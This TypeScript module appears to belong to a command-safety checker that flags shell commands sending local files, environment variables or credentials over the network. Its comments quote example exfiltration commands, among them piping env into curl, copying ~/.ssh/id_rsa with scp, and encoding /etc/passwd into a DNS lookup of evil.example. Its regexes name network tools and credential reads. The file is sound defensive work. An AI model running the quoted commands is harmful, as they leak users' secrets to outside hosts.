/*
 * Local files or the environment sent out over the network: uploads (`curl -d @file`,
 * `--upload-file`, `wget --post-file`, `ab -p file`, `socat FILE:… TCP:…`), anything piped or
 * redirected into a network tool (`env | curl -d @- …`, `nc host < file`, `openssl s_client … <
 * file`), credentials handed to any program that reaches the network (`scp ~/.ssh/id_rsa host:`),
 * an interpreter's code that opens a connection and reads credentials, and data spliced into a
 * host name or URL (`dig $(cat /etc/passwd | base64).evil.example`, `whois -h host "$(cat …)"`).
 */
import type { CommandSite } from './command-sites.js';
import { DOWNLOADERS, HOST_LOOKUPS, NETWORK_SENDERS } from './programs.js';
import { isSubstituted, someView } from './site-views.js';
import { mentionsSecret } from './targets.js';
import { regexUnion } from './regex-union.js';

/** curl options whose `@file` value is a file it sends; `-T`/`--upload-file` always send one. */
const CURL_DATA =
  /^(?:-d|--data|--data-binary|--data-raw|--data-urlencode|--data-ascii|--json|-F|--form|--form-string)$/;

/** Programs that reach another host: whatever credentials they are handed may leave with them. */
const REACHES_NETWORK: ReadonlySet<string> = new Set([
  ...DOWNLOADERS,
  ...NETWORK_SENDERS,
  'ab',
  'whois',
  'smbclient',
  'ssh',
  'scp',
  'sftp',
  'rsync',
  'ftp',
  'tftp',
]);

/** Options of network programs whose value is the program's own credential, not something it sends: `ssh -i ~/.ssh/key`. */
const OWN_CREDENTIAL_OPTIONS = /^(?:-[iFoeSKE]|--(?:netrc-file|config|cert|key|cacert|capath|identity|rsh|ssh-key))$/;

/** An interpreter's code that opens a connection or an HTTP request. */
const NETWORK_CODE = regexUnion([
  /socket|TCPSocket|fsockopen|IO::Socket|Net::|LWP|HTTP::Tiny|urllib|requests\.|http\.client|httplib|ftplib|smtplib/,
  /paramiko|fetch\s*\(|XMLHttpRequest|axios|https?\.request|https?:\/\/|curl_exec|net\.connect|createConnection/,
  /require\(\s*["'](?:node:)?(?:https?|http2|net|tls|dgram)["']/,
]);

export function sendsLocalData(site: CommandSite): boolean {
  if (site.code.some((code) => NETWORK_CODE.test(code) && mentionsSecret(code))) return true;
  return someView(site, (program, args) => {
    if (program === 'curl' && curlUploads(args)) return true;
    if ((program === 'wget' || program === 'wget2') && args.some((arg) => /^--(?:post-file|body-file)/.test(arg)))
      return true;
    if (program === 'ab' && args.some((arg) => /^-[pu]/.test(arg))) return true;
    if (
      program === 'socat' &&
      args.some((arg) => /^(?:FILE|OPEN|GOPEN|CREATE):/i.test(arg)) &&
      args.some((arg) => /^(?:TCP|UDP|SSL|OPENSSL|SCTP)[46]?(?:-CONNECT)?:/i.test(arg))
    )
      return true;
    const sslClient = program === 'openssl' && args[0] === 's_client';
    if (sslClient || REACHES_NETWORK.has(program)) {
      if (handsOverCredentials(args) || site.upstream().some(readsCredentials)) return true;
      // `< ~/.ssh/id_rsa`, or a here-string of commands (`sftp host <<< 'put ~/.ssh/id_rsa'`).
      if (
        site.redirects.some(
          (r) =>
            (r.op === '<' && r.target !== undefined && mentionsSecret(r.target)) ||
            (r.text !== undefined && mentionsSecret(r.text)),
        )
      )
        return true;
    }
    const network = NETWORK_SENDERS.has(program) || HOST_LOOKUPS.has(program) || sslClient;
    if (!network) return false;
    if (args.some((arg) => isSubstituted(site, arg))) return true;
    if (!NETWORK_SENDERS.has(program) && !sslClient) return false;
    const fedByPipe = site.upstream().length > 0;
    const fedByFile = site.redirects.some(
      (r) => (r.op === '<' || r.op === '<>') && r.target !== undefined && !/^\/dev\/(?:null|zero)$/.test(r.target),
    );
    return (fedByPipe || fedByFile) && readsStdinToSend(program, args);
  });
}

/** Credentials among a network program's operands (`scp ~/.ssh/id_rsa host:`), not as its own identity (`ssh -i ~/.ssh/key`). */
function handsOverCredentials(args: readonly string[]): boolean {
  return args.some(
    (arg, i) =>
      !OWN_CREDENTIAL_OPTIONS.test(args[i - 1] ?? '') &&
      !/^-(?:i|F|K|E)./.test(arg) &&
      !/^--(?:netrc-file|config|cert|key|cacert|identity)=/.test(arg) &&
      mentionsSecret(arg),
  );
}

/** A command that reads credentials: `cat ~/.aws/credentials`, `tar cz ~/.ssh`. */
function readsCredentials(site: CommandSite): boolean {
  return (
    site.views.some((view) => view.args.some(mentionsSecret)) ||
    site.redirects.some((r) => r.op === '<' && r.target !== undefined && mentionsSecret(r.target))
  );
}

function curlUploads(args: readonly string[]): boolean {
  for (let i = 0; i < args.length; i++) {
    const arg = args[i] ?? '';
    if (arg === '-T' || arg === '--upload-file' || arg.startsWith('--upload-file=') || /^-T./.test(arg)) return true;
    if (CURL_DATA.test(arg) && /(?:^|=)@/.test(args[i + 1] ?? '')) return true;
    if (/^-[dF]@/.test(arg) || /^--(?:data|data-binary|data-urlencode|json|form)=(?:[^=]*=)?@/.test(arg)) return true;
  }
  return false;
}

/** Whether a network tool sends its stdin: `nc`, `socat`, `telnet` always; `curl` with `@-` or `-T -`. */
function readsStdinToSend(program: string, args: readonly string[]): boolean {
  if (program !== 'curl' && program !== 'wget' && program !== 'wget2') return true;
  return args.some(
    (arg, i) =>
      arg === '@-' ||
      arg.endsWith('=@-') ||
      arg.endsWith('@-') ||
      ((args[i - 1] === '-T' || args[i - 1] === '--upload-file') && arg === '-'),
  );
}
